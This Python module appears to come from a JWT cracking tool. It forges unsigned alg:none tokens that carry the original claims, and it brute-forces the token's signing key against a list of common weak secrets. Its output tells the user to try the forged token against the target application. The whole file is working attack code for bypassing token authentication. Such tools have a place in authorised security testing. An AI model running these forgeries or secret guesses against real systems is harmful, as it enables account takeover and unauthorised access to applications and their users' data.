"""The alg:none check and the common weak secret attack."""

from __future__ import annotations

import sys
from typing import Any, TextIO

from .cracker import JWTCracker, b64url_encode, decode_token
from .info import number_to_str

_ESCAPES = {
    '"': '\\"',
    "\\": "\\\\",
    "/": "\\/",
    "\b": "\\b",
    "\f": "\\f",
    "\n": "\\n",
    "\r": "\\r",
    "\t": "\\t",
}


def _quote(text: str) -> str:
    parts = ['"']
    for ch in text:
        if ch in _ESCAPES:
            parts.append(_ESCAPES[ch])
        elif ord(ch) < 0x20 or ch == "\x7f":
            parts.append(f"\\u{ord(ch):04x}")
        else:
            parts.append(ch)
    parts.append('"')
    return "".join(parts)


def _serialize(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return number_to_str(value)
    if isinstance(value, str):
        return _quote(value)
    if isinstance(value, list):
        return "[" + ",".join(_serialize(item) for item in value) + "]"
    return "{" + ",".join(f"{_quote(key)}:{_serialize(value[key])}" for key in sorted(value)) + "}"


def _encode_part(obj: dict[str, Any]) -> str:
    return b64url_encode(_serialize(obj).encode("utf-8"))


def build_alg_none_token(token: str) -> str:
    """Return an unsigned alg:none token carrying the original payload claims."""
    decoded = decode_token(token)
    return f"{_encode_part({'alg': 'none'})}.{_encode_part(decoded.payload)}."


def check_alg_none_vulnerability(token: str, out: TextIO | None = None) -> None:
    """Print an alg:none bypass candidate for the token."""
    out = sys.stdout if out is None else out
    out.write("\n[*] Checking for alg:none vulnerability...\n")
    try:
        forged = build_alg_none_token(token)
    except ValueError as exc:
        out.write(f"[-] Could not create alg:none token: {exc}\n")
        return
    out.write("[!] Potential alg:none bypass token (claims copied from original):\n")
    out.write(f"{forged}\n")
    out.write("[!] Test this token against the target application\n")


def check_common_secrets_attack(cracker: JWTCracker, out: TextIO | None = None) -> bool:
    """Try each predefined weak secret; return True once one is found."""
    out = sys.stdout if out is None else out
    out.write("[*] Checking common weak secrets...\n")
    for candidate in cracker.common_secrets:
        if cracker.found:
            return True
        if cracker.test_secret(candidate):
            cracker.mark_found(candidate)
            with cracker.output_lock:
                out.write(f"[+] SECRET FOUND (common weak secret): '{candidate}'\n")
            return True
    out.write("[-] No common weak secrets found.\n")
    return False